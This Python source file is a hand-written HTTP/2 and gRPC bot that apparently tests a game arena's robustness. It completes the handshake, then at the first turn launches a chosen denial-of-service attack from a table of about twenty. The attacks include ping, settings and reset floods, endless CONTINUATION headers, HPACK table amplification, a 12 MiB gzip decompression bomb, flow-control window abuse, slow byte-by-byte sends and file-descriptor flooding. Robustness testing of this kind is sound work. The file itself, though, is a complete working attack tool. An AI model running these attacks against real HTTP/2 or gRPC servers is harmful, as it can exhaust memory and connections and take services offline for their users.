"""A bot that speaks HTTP/2 by hand, to say what no library would: `bot.py WHAT`, from its first turn on.

It says a good hello, so that it is at the table, and answers no turn. It imports nothing but the standard
library, so that it starts at once.
"""

import os
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator

WHAT = sys.argv[1]
PATH = os.environ["ARENA_ADDRESS"].removeprefix("unix:")
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING = range(7)
GOAWAY, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 7, 8, 9, 0x42
END_STREAM, ACK, END_HEADERS = 1, 1, 4
WINDOW = 4
"""The setting that says how much may be sent on a new stream."""
MOST = 16_384
"""The largest payload of a frame."""
GIVEN = 64
"""How many descriptors it sends along with a frame that shall cost the arena some."""
MANY = 256
"""How many small frames are written at once."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length(value: int) -> bytes:
    """Return the length of a header's text as HPACK writes it."""
    if value < 127:
        return bytes([value])
    value -= 127
    written = [127]
    while value >= 128:
        written.append(value % 128 | 128)
        value //= 128
    return bytes([*written, value])


def field(name: bytes, value: bytes, kind: int = 0) -> bytes:
    """Return a header in full; with `kind` 0x40 it enters the table, where one byte names it again."""
    return bytes([kind]) + length(len(name)) + name + length(len(value)) + value


OPENING = b"\x88" + field(b"content-type", b"application/grpc")
"""Status 200, and that it is gRPC."""
NEWEST = b"\xbe"
"""The newest header of the table, in one byte."""


def message(data: bytes, *, is_packed: bool = False) -> bytes:
    """Return a message of gRPC."""
    return bytes([is_packed]) + struct.pack(">I", len(data)) + data


def packed(size: int) -> bytes:
    """Return so many zeros as a gzip of a thousandth of it."""
    maker = zlib.compressobj(9, zlib.DEFLATED, 31)
    return message(maker.compress(bytes(size)) + maker.flush(), is_packed=True)


def endless(data: bytes) -> Callable[[int], Iterator[bytes]]:
    """Say the same for ever."""

    def say(stream: int) -> Iterator[bytes]:
        del stream
        while True:
            yield data

    return say


def on_stream(kind: int, flags: int, payload: bytes, times: int = MANY) -> Callable[[int], Iterator[bytes]]:
    """Say the same frame on the stream for ever."""
    return lambda stream: endless(frame(kind, flags, stream, payload) * times)(stream)


def once(*payloads: tuple[int, int, bytes]) -> Callable[[int], Iterator[bytes]]:
    """Say some frames on the stream, then nothing more."""
    return lambda stream: iter([frame(kind, flags, stream, payload) for kind, flags, payload in payloads])


def unending_headers(part: bytes) -> Callable[[int], Iterator[bytes]]:
    """Begin trailers that never end."""

    def say(stream: int) -> Iterator[bytes]:
        yield frame(HEADERS, END_STREAM, stream)
        yield from on_stream(CONTINUATION, 0, part, 16)(stream)

    return say


def crumbs(stream: int) -> Iterator[bytes]:
    """Send a message a byte at a time."""
    for byte in frame(DATA, 0, stream, message(bytes(64))):
        yield bytes([byte])
        time.sleep(0.02)


ATTACKS: dict[str, Callable[[int], Iterator[bytes]]] = {
    "pings": endless(frame(PING, 0, 0, bytes(8)) * MANY),
    "settings": endless(frame(SETTINGS, 0, 0) * MANY),
    "window-settings": endless((frame(SETTINGS, 0, 0, struct.pack(">HI", WINDOW, 1)) * 2) * MANY),
    "window-crumbs": on_stream(WINDOW_UPDATE, 0, struct.pack(">I", 1)),
    "priorities": on_stream(PRIORITY, 0, bytes(5)),
    "unknown-frames": on_stream(UNKNOWN, 0, bytes(MOST), 4),
    "goaways": endless(frame(GOAWAY, 0, 0, struct.pack(">II", 2**31 - 1, 0)) * MANY),
    "resets": lambda _: iter(frame(RST_STREAM, 0, number, bytes(4)) for number in range(1, 2**30, 2)),
    "empty-data": on_stream(DATA, 0, b""),
    "empty-messages": on_stream(DATA, 0, message(b"") * (MOST // 5), 4),
    "empty-headers": unending_headers(b""),
    "endless-headers": unending_headers(field(b"x", bytes(1000)) * 16),
    "headers-by-name": once(
        (HEADERS, END_STREAM, field(b"x", b"y" * 3000, 0x40)), *[(CONTINUATION, 0, NEWEST * MOST)] * 64
    ),
    "packed-bomb": once((DATA, 0, packed(12 * 2**20))),
    "packed-bombs": on_stream(DATA, 0, packed(15_000), MANY),
    "no-window": once(),
    "too-much-window": once(*[(WINDOW_UPDATE, 0, struct.pack(">I", 2**31 - 1))] * 2),
    "push": once((PUSH_PROMISE, END_HEADERS, struct.pack(">I", 2) + OPENING)),
    "crumbs": crumbs,
    "descriptors": endless(frame(PING, 0, 0, bytes(8))),
}
"""What it says from its first turn on, by name."""


class Arena:
    """The other end of the connection."""

    def __init__(self, connection: socket.socket) -> None:
        self.connection = connection

    def read(self, count: int) -> bytes:
        """Return so many bytes."""
        data = b""
        while len(data) < count:
            more = self.connection.recv(count - len(data))
            if not more:
                raise ConnectionError
            data += more
        return data

    def messages(self) -> Iterator[tuple[int, bytes]]:
        """Return the frames of data that arrive, each with its stream; settings and pings are answered."""
        self.read(24)
        no_window = struct.pack(">HI", WINDOW, 0) if WHAT == "no-window" else b""
        self.connection.sendall(frame(SETTINGS, 0, 0, no_window))
        while True:
            head = self.read(9)
            kind, flags = head[3], head[4]
            (stream,) = struct.unpack(">I", head[5:])
            payload = self.read(int.from_bytes(head[:3], "big"))
            if kind in (SETTINGS, PING) and not flags & ACK:
                self.connection.sendall(frame(kind, ACK, 0, payload if kind == PING else b""))
            elif kind == DATA and payload:
                if WHAT == "no-window" and stream > 1:
                    continue
                yield stream, payload
            elif kind == HEADERS and WHAT == "no-window" and stream == 1:
                # The hello may be sent, the turns may not.
                self.connection.sendall(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 65_535)))

    def play(self) -> None:
        """Answer the hello; attack at the first turn."""
        for stream, payload in self.messages():
            if stream == 1:
                place = payload.index(b"\x1a\x10") + 2
                reply = b"\x08\x01\x12\x10" + payload[place : place + 16] + b"\x18\x40"
                self.connection.sendall(
                    frame(HEADERS, END_HEADERS, stream, OPENING)
                    + frame(DATA, 0, stream, message(reply))
                    + frame(HEADERS, END_HEADERS | END_STREAM, stream, field(b"grpc-status", b"0"))
                )
                continue
            opening = OPENING + field(b"grpc-encoding", b"gzip")
            self.connection.sendall(frame(HEADERS, END_HEADERS, stream, opening))
            for data in ATTACKS[WHAT](stream):
                if WHAT == "descriptors":
                    socket.send_fds(self.connection, [data], [self.connection.fileno()] * GIVEN)
                else:
                    self.connection.sendall(data)
            time.sleep(3600)


def main() -> None:
    """Listen, and take one caller after another."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(PATH)
        listener.listen()
        while True:
            connection, _ = listener.accept()
            with connection:
                try:
                    Arena(connection).play()
                except OSError:
                    continue


if __name__ == "__main__":
    main()
